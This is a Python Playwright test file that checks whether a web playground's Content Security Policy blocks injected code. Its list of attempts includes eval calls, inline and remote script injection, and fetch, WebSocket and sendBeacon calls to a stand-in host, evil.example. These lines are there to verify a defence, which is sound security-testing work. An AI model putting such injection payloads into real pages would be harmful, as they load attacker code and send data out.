"""The page comes up: nothing is loaded from elsewhere, nothing is forbidden to it that it needs."""

from __future__ import annotations

import re

from playwright.async_api import expect

from browser.window import Window


async def test_it_connects_and_waits_for_the_first_message(window: Window) -> None:
    await expect(window.page).to_have_title("Guide · playground")
    await expect(window.box).to_be_editable()
    await window.shot("empty")


# What code could try that has got into the page after all, and which part of the policy stops it.
ATTEMPTS = [
    ("document.body.innerHTML = '<b>raw</b>'", "require-trusted-types-for"),
    ("eval('1 + 1')", "script-src|require-trusted-types-for"),
    ("new Function('return 1')()", "script-src|require-trusted-types-for"),
    ("trustedTypes.createPolicy('mine', { createHTML: (text) => text })", "trusted-types"),
    ("setTimeout('console.error(`it ran`)')", "script-src|require-trusted-types-for"),
    (
        "document.body.append(Object.assign(document.createElement('script'), { text: 'console.error(`it ran`)' }))",
        ".",
    ),
    (
        "document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))",
        ".",
    ),
    ("document.body.setAttribute('onclick', 'console.error(`it ran`)'), document.body.click()", "."),
    (
        "document.body.append(Object.assign(document.createElement('style'), { textContent: 'body {}' }))",
        "style-src",
    ),
    ("document.body.setAttribute('style', 'display: none')", "style-src"),
    (
        "document.body.append(Object.assign(document.createElement('iframe'), { src: '/' }))",
        "frame-src|default-src|frame-ancestors",
    ),
    (
        "document.body.append(Object.assign(document.createElement('object'), { data: '/' }))",
        ".",
    ),
    (
        "document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example' }))",
        "base-uri",
    ),
    ("fetch('https://evil.example/').catch(() => {})", "connect-src"),
    ("new WebSocket('wss://evil.example/')", "connect-src"),
    ("navigator.sendBeacon('https://evil.example/', 'x')", "connect-src"),
    ("new Worker('playground/main.js')", "."),
    (
        "(() => { const f = document.createElement('form'); f.action = '/'; document.body.append(f); f.submit(); })()",
        "form-action",
    ),
]


async def test_what_the_page_never_does_it_could_not_do_either(window: Window) -> None:
    """The policy stands behind the page's own guards. That each attempt is noted also shows that the windows of these tests watch well."""
    for attempt, stopped_by in ATTEMPTS:
        window.faults.clear()
        violation = re.compile(rf"CSP: ({stopped_by})")
        # Not within `evaluate` itself, which is allowed more than the page.
        await window.page.evaluate(f"() => {{ setTimeout(() => {{ {attempt}; }}) }}")
        for _ in range(100):
            if any(map(violation.match, faults := [fault.removeprefix("console: ") for fault in window.faults])):
                break
            await window.page.evaluate("() => new Promise(requestAnimationFrame)")
        else:
            raise AssertionError(f"{attempt}: {faults}")
        assert "it ran" not in faults, attempt
    window.faults.clear()
